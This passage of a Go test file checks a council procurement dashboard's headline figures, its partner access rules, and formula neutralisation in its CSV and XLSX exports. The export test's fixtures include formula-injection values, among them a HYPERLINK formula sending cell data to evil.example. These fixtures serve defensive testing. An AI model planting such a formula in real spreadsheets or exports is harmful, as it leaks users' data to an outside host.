				t.Errorf("%s: headline (-hand calculation +dashboard):\n%s", c.url, diff)
			}
		}
	}

	// A few figures worked by hand too, so the calculation above is
	// checked as well as trusted.
	got := dbHeadline(t, hub, ts.URL+"/o/hub/dashboard.csv?fy=2024")
	figure := func(rows [][]string, key string) string {
		for _, r := range rows {
			if r[0] == key {
				return r[1]
			}
		}
		return "missing"
	}
	for key, want := range map[string]string{
		// 480,000 + 118,000.55 + 1,800,000 + 290,000, and the direct
		// contracts of 1 October 2024 (75,000), 1 April 2024 (55,000) and
		// 31 March 2025 (50,000.01), not 1 April 2025's.
		"contract_value_awarded": "2868000.56",
		// N-101: 98,000 + 993.82 (80.5 × 12.3456 = 993.8208) + 0.03 (2.5p up) + 620;
		// N-102: 35,000; S-201: 112,000 + 24,697.37 + 1,550; N-099: 28,000 + 0.03.
		"social_value_committed": "300861.25",
		"tenders_over_threshold": "4", "average_weighting": "20.0",
		// Mill, National, Cheshire, Kitchens, Warrington Works and Salford
		// (its offer on a tender published in March 2024 came in April);
		// not Leeds (a draft) nor York (withdrawn).
		"bidders": "6", "bidders_local": "4", "bidders_sme": "4", "bidders_vcse": "2",
		"winners": "5", "winners_local": "3", "winners_sme": "4", "winners_vcse": "2",
		"contracts_with_performance_measures": "57.1",
		"plugin_value:" + dbPlugin:            "2170.00",
	} {
		if g := figure(got, key); g != want {
			t.Errorf("FY2024 %s = %s, want %s", key, g, want)
		}
	}
}

// dbAdditive are the headline figures that add up over partners: money
// and tender counts (bidders and winners are distinct suppliers, and
// shares are ratios).
func dbAdditive(key string) bool {
	switch key {
	case "contract_value_awarded", "social_value_committed", "social_value_delivered", "delivery_gap",
		"tenders_over_threshold", "tenders_over_threshold_value":
		return true
	}
	return strings.HasPrefix(key, "plugin_value:")
}

// dbCents reads a headline value as hundredths (pounds) or a count as
// itself times 100.
func dbCents(t *testing.T, v string) int64 {
	t.Helper()
	whole, frac, _ := strings.Cut(strings.TrimPrefix(v, "-"), ".")
	n, err := strconv.ParseInt(whole+(frac + "00")[:2], 10, 64)
	if err != nil {
		t.Fatalf("not a figure: %q", v)
	}
	if strings.HasPrefix(v, "-") {
		n = -n
	}
	return n
}

// dbCheckSum checks that the additive figures of the whole scope are the
// sums of its partners' figures.
func dbCheckSum(t *testing.T, c *http.Client, base, org string, fy int, partners []string) {
	t.Helper()
	whole := dbHeadline(t, c, fmt.Sprintf("%s/o/%s/dashboard.csv?fy=%d", base, org, fy))
	sums := map[string]int64{}
	for _, p := range partners {
		for _, r := range dbHeadline(t, c, fmt.Sprintf("%s/o/%s/dashboard.csv?fy=%d&partner=%s", base, org, fy, p)) {
			if dbAdditive(r[0]) {
				sums[r[0]] += dbCents(t, r[1])
			}
		}
	}
	checked := 0
	for _, r := range whole {
		if !dbAdditive(r[0]) {
			continue
		}
		checked++
		if got := dbCents(t, r[1]); got != sums[r[0]] {
			t.Errorf("/o/%s FY%d %s = %s, but its partners' add up to %d hundredths", org, fy, r[0], r[1], sums[r[0]])
		}
	}
	if checked < 6 {
		t.Errorf("/o/%s FY%d: only %d additive figures", org, fy, checked)
	}
}

// dbStatus asks for each path and wants the status given.
func dbStatus(t *testing.T, c *http.Client, base string, want int, paths ...string) {
	t.Helper()
	for _, p := range paths {
		if resp, _ := get(t, c, base+p); resp.StatusCode != want {
			t.Errorf("%s: %d, want %d", p, resp.StatusCode, want)
		}
	}
}

func TestDashboardPartnersSeeOnlyTheirOwn(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	w := dbScenario()
	// A tender open now, with an offer in: sealed, so not yet a bid.
	w.tenders = append(w.tenders, dbTenderSpec{ref: "N-OPEN", partner: "north", value: 7_000_000, weighting: 200, open: true,
		measures: []string{"JOB1"}, contractStart: dbLondon(2030, 1, 1), last: dbLondon(2030, 12, 31),
		offers: []dbOfferSpec{{supplier: "leeds", bid: 6_900_000, qty: map[string]int64{"JOB1": 1000}}}})
	dbBuild(t, ts, w)
	// A partner of another shared service, with a contract of its own.
	ctx := context.Background()
	store := postgres.New(ts.db.Owner)
	other, err := store.CreateOrganisation(ctx, tally.Org{Kind: tally.SharedService, Slug: "otherhub", Name: "Other Hub"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	elsewhere, err := store.CreateOrganisation(ctx, tally.Org{Kind: tally.Partner, Slug: "elsewhere", Name: "Elsewhere Council", SharedServiceID: other.ID}, nil)
	if err != nil {
		t.Fatal(err)
	}
	mill, err := store.OrgBySlug(ctx, "mill")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.CreateDirectContract(ctx, tally.Scope{PartnerIDs: []int64{elsewhere.ID}, OrgIDs: []int64{elsewhere.ID}, Roles: tally.StaffRoles},
		postgres.NewContract{PartnerID: elsewhere.ID, SupplierID: mill.ID, Reference: "E-1", Title: "Elsewhere", Value: 99_999_999,
			Start: dbLondon(2024, 5, 1), End: dbLondon(2025, 4, 30), AwardedOn: dbLondon(2024, 5, 1)}); err != nil {
		t.Fatal(err)
	}

	north := measuresLogin(t, ts, "director@north.test")
	dbStatus(t, north, ts.URL, http.StatusOK, "/o/north/dashboard?fy=2024", "/o/north/dashboard?fy=2024&partner=north")
	dbStatus(t, north, ts.URL, http.StatusNotFound,
		"/o/north/dashboard?fy=2024&partner=south", "/o/north/dashboard.csv?fy=2024&partner=south",
		"/o/north/dashboard/themes.csv?fy=2024&partner=south", "/o/north/dashboard/themes.xlsx?fy=2024&partner=south",
		"/o/south/dashboard", "/o/south/dashboard.csv?fy=2024", "/o/south/dashboard/measures.csv?fy=2024",
		"/o/hub/dashboard", "/o/hub/dashboard.csv?fy=2024&partner=north", "/o/elsewhere/dashboard",
		"/o/north/dashboard?partner=elsewhere", "/o/north/dashboard/partners.csv?fy=2024")

	hub := measuresLogin(t, ts, "director@hub.test")
	dbStatus(t, hub, ts.URL, http.StatusNotFound,
		"/o/hub/dashboard?fy=2024&partner=elsewhere", "/o/hub/dashboard.csv?fy=2024&partner=elsewhere",
		"/o/hub/dashboard/themes.csv?fy=2024&partner=elsewhere", "/o/hub/dashboard?partner=mill",
		"/o/hub/dashboard?partner=otherhub", "/o/hub/dashboard?partner=hub", "/o/elsewhere/dashboard", "/o/otherhub/dashboard",
		"/o/hub/dashboard/nosuchtable.csv?fy=2024", "/o/hub/dashboard/themes.pdf?fy=2024")
	// Through its shared service the director reaches each partner too.
	dbStatus(t, hub, ts.URL, http.StatusOK, "/o/north/dashboard?fy=2024", "/o/south/dashboard.csv?fy=2024")
	for _, fy := range []int{2024, 2023} {
		dbCheckSum(t, hub, ts.URL, "hub", fy, []string{"north", "south"})
	}
	// The page shows the whole service's figure and its partners.
	_, body := get(t, hub, ts.URL+"/o/hub/dashboard?fy=2024")
	for _, want := range []string{"£2,868,000.56", "North Council", "South Council", "Hub Shared Procurement: all partners"} {
		if !strings.Contains(body, want) {
			t.Errorf("the shared service's dashboard lacks %q", want)
		}
	}
	if strings.Contains(body, "Elsewhere") || strings.Contains(body, "999,999.99") {
		t.Error("the shared service's dashboard shows another service's partner")
	}

	// This year the open tender counts as published, but who has bid on
	// it stays sealed until its deadline.
	now := dbHeadline(t, hub, fmt.Sprintf("%s/o/hub/dashboard.csv?fy=%d", ts.URL, tally.FinancialYearOf(time.Now())))
	for _, r := range now {
		if (r[0] == "tenders_over_threshold" && r[1] != "1") || (strings.HasPrefix(r[0], "bidders") && r[1] != "0") {
			t.Errorf("this year %s = %s with one open tender and its sealed offer", r[0], r[1])
		}
	}

	supplier := measuresLogin(t, ts, "bids@mill.test")
	dbStatus(t, supplier, ts.URL, http.StatusNotFound, "/o/mill/dashboard", "/o/mill/dashboard.csv?fy=2024",
		"/o/mill/dashboard/themes.csv?fy=2024", "/o/north/dashboard", "/o/hub/dashboard.csv?fy=2024")
}

// The demo reproduces the reference customer's published figures across
// its most recent complete financial year, and its access rules hold.
func TestDashboardDemo(t *testing.T) {
	t.Parallel()
	ts := demoServer(t)
	fy := tally.FinancialYearOf(time.Now()) - 1
	star := measuresLogin(t, ts, "director@star.example")
	rows := dbHeadline(t, star, fmt.Sprintf("%s/o/star/dashboard.csv?fy=%d", ts.URL, fy))
	figures := map[string]float64{}
	for _, r := range rows {
		figures[r[0]], _ = strconv.ParseFloat(r[1], 64)
	}
	for _, c := range []struct {
		key      string
		min, max float64 // exclusive minimum, inclusive maximum
	}{
		{"social_value_percent", 20, 30},
		{"local_share_of_social_value", 50, 100},
		{"contracts_with_performance_measures", 75, 100},
		{"average_weighting", 17, 23},
	} {
		if v, ok := figures[c.key]; !ok || v <= c.min || v > c.max {
			t.Errorf("FY%d %s = %v, want over %v and at most %v", fy, c.key, v, c.min, c.max)
		}
	}
	if figures["contract_value_awarded"] <= 0 || figures["social_value_delivered"] <= 0 || figures["bidders"] < 10 {
		t.Errorf("FY%d: an empty year: %v", fy, rows)
	}
	dbCheckSum(t, star, ts.URL, "star", fy, []string{"stockport", "trafford", "rochdale", "tameside"})

	rochdale := measuresLogin(t, ts, "director@rochdale.example")
	dbStatus(t, rochdale, ts.URL, http.StatusOK, "/o/rochdale/dashboard", fmt.Sprintf("/o/rochdale/dashboard.csv?fy=%d", fy))
	dbStatus(t, rochdale, ts.URL, http.StatusNotFound,
		"/o/rochdale/dashboard?partner=stockport", "/o/rochdale/dashboard.csv?partner=stockport",
		"/o/rochdale/dashboard/measures.csv?partner=stockport", "/o/stockport/dashboard", "/o/stockport/dashboard.csv",
		"/o/star/dashboard", "/o/star/dashboard.csv?partner=rochdale")
	// Rochdale's own figures are the shared service's figures for it.
	own := dbHeadline(t, rochdale, fmt.Sprintf("%s/o/rochdale/dashboard.csv?fy=%d", ts.URL, fy))
	if diff := cmp.Diff(dbHeadline(t, star, fmt.Sprintf("%s/o/star/dashboard.csv?fy=%d&partner=rochdale", ts.URL, fy)), own); diff != "" {
		t.Errorf("Rochdale's headline differs from the shared service's view of it:\n%s", diff)
	}
	dbStatus(t, star, ts.URL, http.StatusNotFound, "/o/star/dashboard?partner=northernbuild", "/o/star/dashboard?partner=nowhere")

	for _, email := range []string{"bids@northernbuild.example", "bids@communitycare.example"} {
		org := strings.TrimSuffix(strings.TrimPrefix(email, "bids@"), ".example")
		dbStatus(t, measuresLogin(t, ts, email), ts.URL, http.StatusNotFound, "/o/"+org+"/dashboard", "/o/"+org+"/dashboard.csv",
			"/o/"+org+"/dashboard/themes.csv", "/o/star/dashboard", "/o/stockport/dashboard.csv")
	}
}

// dbFormula is what a spreadsheet would run: a cell starting with = + - @,
// a tab or a carriage return.
func dbFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

var dbPlainNumber = regexp.MustCompile(`^-?\d+(\.\d+)?$`)

func TestDashboardExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"Council")`
	w := dbWorld{
		shared: "inj",
		partners: []dbPartnerSpec{
			{"evil", hyperlink, "M"},
			{"minus", "-2+3 Council", "SK"},
		},
		suppliers: []dbSupplierSpec{{"mill", "Mill Lane Builders", "SK4 1AA", tally.SizeSmall, false}},
		measures: []dbMeasureSpec{
			{"+CMD", "@SUM(1+1)", "=1+1", "FTE", "1000", 10_000_000, ""},
			{"JOB2", "-Infinity", "Jobs", "hours", "20", 200_000, ""},
		},
		tenders: []dbTenderSpec{{ref: "E-1", partner: "evil", value: 10_000_000, weighting: 200, measures: []string{"+CMD", "JOB2"},
			published: dbLondon(2024, 2, 1, 10), deadline: dbLondon(2024, 3, 1, 12),
			offers:        []dbOfferSpec{{supplier: "mill", bid: 10_000_000, qty: map[string]int64{"+CMD": 8000, "JOB2": 100_000}}},
			contractStart: dbLondon(2024, 4, 1), last: dbLondon(2026, 3, 31),
			// Twice the target of +CMD is delivered: the gap is negative.
			award: &dbContractSpec{supplier: "mill", awarded: dbLondon(2024, 4, 1), returns: []dbReturnSpec{
				{period: 1, lines: map[string]dbLineSpec{"+CMD": {2000, tally.DecisionVerified}, "JOB2": {12_500, tally.DecisionVerified}}},
				{period: 2, lines: map[string]dbLineSpec{"+CMD": {2000, tally.DecisionVerified}, "JOB2": {12_500, tally.DecisionVerified}}},
				{period: 3, lines: map[string]dbLineSpec{"+CMD": {2000, tally.DecisionVerified}, "JOB2": {12_500, tally.DecisionVerified}}},
			}}}},
	}
	dbBuild(t, ts, w)
	c := measuresLogin(t, ts, "director@inj.test")

	// The headline CSV keeps a negative amount a plain number.
	headline := dbHeadline(t, c, ts.URL+"/o/inj/dashboard.csv?fy=2024&partner=evil")
	if diff := cmp.Diff(dbExpect(w, 2024, "evil"), headline); diff != "" {
		t.Errorf("headline (-hand calculation +dashboard):\n%s", diff)
	}
	for _, r := range headline {
		if r[0] == "delivery_gap" && r[1] != "-3000.00" {
			t.Errorf("delivery gap %s, want -3000.00 (3 × £1,000 expected, 6 × £1,000 delivered)", r[1])
		}
	}

	// Every table: as CSV, no cell a spreadsheet would run, the hostile
	// labels kept with a leading apostrophe, amounts as plain numbers;
	// as XLSX, the same text as text and amounts as numbers.
	hostile := map[string]bool{hyperlink: true, "-2+3 Council": true, "@SUM(1+1)": true, "-Infinity": true, "+CMD =1+1": true}
	found := map[string]bool{}
	for _, table := range []string{"themes", "measures", "partners", "sizes", "months", "ratings"} {
		url := ts.URL + "/o/inj/dashboard/" + table + ".csv?fy=2024"
		resp, body := get(t, c, url)
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s: %d %s", url, resp.StatusCode, resp.Header.Get("Content-Type"))
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %v %q", url, err, body)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if dbFormula(cell) && !dbPlainNumber.MatchString(cell) {
					t.Errorf("%s: %s is %q, which a spreadsheet would run", table, rows[0][i], cell)
				}
				if raw, ok := strings.CutPrefix(cell, "'"); ok && hostile[raw] {
					found[raw] = true
				}
				if i > 0 && !dbPlainNumber.MatchString(cell) {
					t.Errorf("%s: %s is %q, not a plain number", table, rows[0][i], cell)
				}
			}
		}
		dbCheckXLSX(t, c, ts.URL+"/o/inj/dashboard/"+table+".xlsx?fy=2024", rows)
	}
	for h := range hostile {
		if !found[h] {
			t.Errorf("%q is not in any table as '%s", h, h)
		}
	}
}

// dbCheckXLSX opens an XLSX export with excelize and compares it with the
// CSV of the same table: no formulas, text as text (the CSV's apostrophe
// not needed), numbers as numbers.
func dbCheckXLSX(t *testing.T, c *http.Client, url string, csvRows [][]string) {
	t.Helper()
	resp, body := get(t, c, url)
	if resp.StatusCode != http.StatusOK || !strings.Contains(resp.Header.Get("Content-Type"), "spreadsheetml") {
		t.Fatalf("%s: %d %s", url, resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	f, err := excelize.OpenReader(bytes.NewReader([]byte(body)))
	if err != nil {
		t.Fatalf("%s does not open: %v", url, err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(csvRows) {
		t.Fatalf("%s: %d rows, the CSV has %d", url, len(rows), len(csvRows))
	}
	for i, row := range csvRows {
		for j, want := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
				t.Errorf("%s %s is a formula: %q", url, cell, formula)
			}
			got, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
			kind, _ := f.GetCellType(sheet, cell)
			number := kind == excelize.CellTypeUnset || kind == excelize.CellTypeNumber
			switch {
			case i > 0 && dbPlainNumber.MatchString(want):
				w, _ := strconv.ParseFloat(want, 64)
				if g, err := strconv.ParseFloat(got, 64); err != nil || g != w || !number {
					t.Errorf("%s %s = %q (type %v), want the number %s", url, cell, got, kind, want)
				}
			default:
				if raw := strings.TrimPrefix(want, "'"); got != raw || number {
					t.Errorf("%s %s = %q (type %v), want the text %q", url, cell, got, kind, raw)
				}
			}
		}
	}
}
